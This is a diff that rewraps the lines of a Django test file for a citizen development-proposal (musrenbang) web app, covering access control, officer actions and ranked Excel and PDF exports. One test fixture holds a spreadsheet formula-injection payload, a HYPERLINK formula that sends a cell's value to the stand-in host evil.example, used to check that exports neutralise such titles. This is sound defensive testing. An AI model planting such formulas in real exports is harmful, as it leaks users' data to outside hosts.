@@ -18,15 +18,32 @@ pytestmark = pytest.mark.django_db
 def bulk(cycle, citizen, n, start=1000):
     villages = list(Region.objects.filter(level="kelurahan", code__startswith="12.75."))
     bidang = list(Urusan.objects.filter(level="bidang"))
-    Proposal.objects.bulk_create([
-        Proposal(cycle=cycle, reference=f"{cycle.plan_year}-{start + i:05d}", proposer=citizen,
-                 status=Status.SUBMITTED, kelurahan=villages[i % len(villages)],
-                 category=bidang[i % len(bidang)], title=f"Usulan {i}", problem="x",
-                 activity="y", rt="001", rw="001", address="Jl. X", volume=Decimal(1),
-                 volume_unit="unit", estimated_cost=Decimal(1000), beneficiaries=5,
-                 latitude=Decimal("3.6"), longitude=Decimal("98.48"), support_count=i % 7)
-        for i in range(n)
-    ])
+    Proposal.objects.bulk_create(
+        [
+            Proposal(
+                cycle=cycle,
+                reference=f"{cycle.plan_year}-{start + i:05d}",
+                proposer=citizen,
+                status=Status.SUBMITTED,
+                kelurahan=villages[i % len(villages)],
+                category=bidang[i % len(bidang)],
+                title=f"Usulan {i}",
+                problem="x",
+                activity="y",
+                rt="001",
+                rw="001",
+                address="Jl. X",
+                volume=Decimal(1),
+                volume_unit="unit",
+                estimated_cost=Decimal(1000),
+                beneficiaries=5,
+                latitude=Decimal("3.6"),
+                longitude=Decimal("98.48"),
+                support_count=i % 7,
+            )
+            for i in range(n)
+        ]
+    )
 
 
 @pytest.mark.parametrize("name", ["musrenbang:index", "musrenbang:map"])
@@ -67,19 +84,24 @@ def test_filters_and_bad_params_never_fail(client, make_proposal, kelurahan):
     make_proposal(Status.SUBMITTED, title="Posyandu baru")
     html = client.get(reverse("musrenbang:index"), {"q": "lampu"}).content.decode()
     assert p.title in html and "Posyandu baru" not in html
-    html = client.get(reverse("musrenbang:index"),
-                      {"kelurahan": kelurahan.pk, "status": "submitted"}).content.decode()
+    html = client.get(
+        reverse("musrenbang:index"), {"kelurahan": kelurahan.pk, "status": "submitted"}
+    ).content.decode()
     assert p.title in html
-    for params in ({"page": "x"}, {"page": "999"}, {"kecamatan": "abc"}, {"status": "zzz"},
-                   {"cycle": "-1"}, {"q": "a" * 500}):
+    for params in (
+        {"page": "x"},
+        {"page": "999"},
+        {"kecamatan": "abc"},
+        {"status": "zzz"},
+        {"cycle": "-1"},
+        {"q": "a" * 500},
+    ):
         assert client.get(reverse("musrenbang:index"), params).status_code == 200
     assert client.get(reverse("musrenbang:similar"), {"kelurahan": "x"}).status_code == 200
     assert client.get("/musrenbang/usulan/nope/").status_code == 404
 
 
-def test_drafts_are_not_public_and_name_is_hidden_unless_chosen(
-    client, make_proposal, citizen
-):
+def test_drafts_are_not_public_and_name_is_hidden_unless_chosen(client, make_proposal, citizen):
     draft = make_proposal()
     assert client.get(draft.get_absolute_url()).status_code == 404
     hidden = make_proposal(Status.SUBMITTED)
@@ -90,8 +112,9 @@ def test_drafts_are_not_public_and_name_is_hidden_unless_chosen(
     assert client.get(draft.get_absolute_url()).status_code == 200
 
 
-def test_officer_of_another_kelurahan_gets_404(client, make_proposal, make_staff,
-                                                kelurahan_officer):
+def test_officer_of_another_kelurahan_gets_404(
+    client, make_proposal, make_staff, kelurahan_officer
+):
     p = make_proposal(Status.SUBMITTED)
     other = make_staff("petugas_kelurahan", "kelurahan-12-75-01-1001")
     client.force_login(other)
@@ -108,20 +131,29 @@ def test_citizen_cannot_reach_officer_pages(client, citizen, make_proposal):
     p = make_proposal(Status.SUBMITTED)
     client.force_login(citizen)
     assert client.get(reverse("musrenbang:officer-list")).status_code == 404
-    assert client.post(reverse("musrenbang:officer-act", args=[p.reference]),
-                       {"action": "verify"}).status_code == 404
+    assert (
+        client.post(
+            reverse("musrenbang:officer-act", args=[p.reference]), {"action": "verify"}
+        ).status_code
+        == 404
+    )
     assert client.get(reverse("musrenbang:forum")).status_code == 404
 
 
-def test_refused_action_shows_a_message_and_changes_nothing(client, make_proposal,
-                                                            kelurahan_officer):
+def test_refused_action_shows_a_message_and_changes_nothing(
+    client, make_proposal, kelurahan_officer
+):
     p = make_proposal(Status.SUBMITTED)
     client.force_login(kelurahan_officer)
-    r = client.post(reverse("musrenbang:officer-act", args=[p.reference]),
-                    {"action": "reject", "note": ""}, follow=True)
+    r = client.post(
+        reverse("musrenbang:officer-act", args=[p.reference]),
+        {"action": "reject", "note": ""},
+        follow=True,
+    )
     assert "Catatan wajib diisi" in r.content.decode()
-    r = client.post(reverse("musrenbang:officer-act", args=[p.reference]), {"action": "hack"},
-                    follow=True)
+    r = client.post(
+        reverse("musrenbang:officer-act", args=[p.reference]), {"action": "hack"}, follow=True
+    )
     assert r.status_code == 200
     assert Proposal.objects.get(pk=p.pk).status == Status.SUBMITTED
 
@@ -131,7 +163,8 @@ def test_submit_page_outside_the_window_shows_the_dates(client, cycle, citizen):
 
     type(cycle).objects.filter(pk=cycle.pk).update(
         kelurahan_opens=cycle.kelurahan_opens - timedelta(days=30),
-        kelurahan_closes=cycle.kelurahan_opens - timedelta(days=20))
+        kelurahan_closes=cycle.kelurahan_opens - timedelta(days=20),
+    )
     client.force_login(citizen)
     html = client.get(reverse("musrenbang:create")).content.decode()
     assert "hanya dapat diajukan" in html
@@ -167,16 +200,26 @@ def test_berita_acara_pdf_and_excel_hold_the_ranked_list_in_order(
     a = make_proposal(Status.VERIFIED, title="Alpha drainase")
     b = make_proposal(Status.VERIFIED, title="Bravo posyandu")
     c = make_proposal(Status.VERIFIED, title="Charlie lampu")
-    services.forum_rank_set(actor=kelurahan_officer, level=Forum.Level.KELURAHAN,
-                            region=kelurahan, cycle=cycle, ordered_ids=[b.pk, c.pk, a.pk])
+    services.forum_rank_set(
+        actor=kelurahan_officer,
+        level=Forum.Level.KELURAHAN,
+        region=kelurahan,
+        cycle=cycle,
+        ordered_ids=[b.pk, c.pk, a.pk],
+    )
     client.force_login(kelurahan_officer)
-    client.post(reverse("musrenbang:forum"), {"held_on": "2026-02-03", "place": "Aula",
-                                              "participant_count": "41", "notes": "Sepakat"})
+    client.post(
+        reverse("musrenbang:forum"),
+        {"held_on": "2026-02-03", "place": "Aula", "participant_count": "41", "notes": "Sepakat"},
+    )
     r = client.get(reverse("musrenbang:forum-xlsx"))
     assert r["Content-Disposition"].startswith("attachment")
     ws = load_workbook(io.BytesIO(r.content)).active
-    titles = [row[2] for row in ws.iter_rows(values_only=True) if row[1] and "-" in str(row[1])
-              and str(row[1]).startswith(str(cycle.plan_year))]
+    titles = [
+        row[2]
+        for row in ws.iter_rows(values_only=True)
+        if row[1] and "-" in str(row[1]) and str(row[1]).startswith(str(cycle.plan_year))
+    ]
     assert titles == ["Bravo posyandu", "Charlie lampu", "Alpha drainase"]
     assert any(row[1] == "41" for row in ws.iter_rows(values_only=True))
 
@@ -209,29 +252,39 @@ def _pdf_text(content: bytes) -> str:
 def test_forum_rank_by_number_with_htmx(client, make_proposal, kelurahan_officer):
     a, b = make_proposal(Status.VERIFIED), make_proposal(Status.VERIFIED)
     client.force_login(kelurahan_officer)
-    r = client.post(reverse("musrenbang:forum-rank"), {"proposal": b.pk, "rank": 1},
-                    HTTP_HX_REQUEST="true")
+    r = client.post(
+        reverse("musrenbang:forum-rank"), {"proposal": b.pk, "rank": 1}, HTTP_HX_REQUEST="true"
+    )
     assert r.status_code == 200
     html = r.content.decode()
     assert html.index(f'data-proposal="{b.pk}"') < html.index(f'data-proposal="{a.pk}"')
-    r = client.post(reverse("musrenbang:forum-rank"), {"proposal": "x", "rank": "y"},
-                    HTTP_HX_REQUEST="true")
+    r = client.post(
+        reverse("musrenbang:forum-rank"), {"proposal": "x", "rank": "y"}, HTTP_HX_REQUEST="true"
+    )
     assert r.status_code == 200 and "alert" in r.content.decode()
 
 
 EVIL = '=HYPERLINK("http://evil.example/?x="&B7,"Klik")'
 
 
-def test_ranked_excel_writes_formula_titles_as_text(client, make_proposal, kelurahan_officer,
-                                                    kelurahan, cycle):
+def test_ranked_excel_writes_formula_titles_as_text(
+    client, make_proposal, kelurahan_officer, kelurahan, cycle
+):
     """CSV/formula injection: a citizen's title never becomes a live formula."""
     evil = make_proposal(Status.VERIFIED, title=EVIL)
     plain = make_proposal(Status.VERIFIED, title="@SUM(A1:A9) lampu jalan")
-    services.forum_rank_set(actor=kelurahan_officer, level=Forum.Level.KELURAHAN,
-                            region=kelurahan, cycle=cycle, ordered_ids=[evil.pk, plain.pk])
+    services.forum_rank_set(
+        actor=kelurahan_officer,
+        level=Forum.Level.KELURAHAN,
+        region=kelurahan,
+        cycle=cycle,
+        ordered_ids=[evil.pk, plain.pk],
+    )
     client.force_login(kelurahan_officer)
-    client.post(reverse("musrenbang:forum"), {"held_on": "2026-02-03", "place": "-Aula",
-                                              "participant_count": "41", "notes": "+62 812"})
+    client.post(
+        reverse("musrenbang:forum"),
+        {"held_on": "2026-02-03", "place": "-Aula", "participant_count": "41", "notes": "+62 812"},
+    )
     ws = load_workbook(io.BytesIO(client.get(reverse("musrenbang:forum-xlsx")).content)).active
     cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
     assert not [c.coordinate for c in cells if c.data_type == "f"]
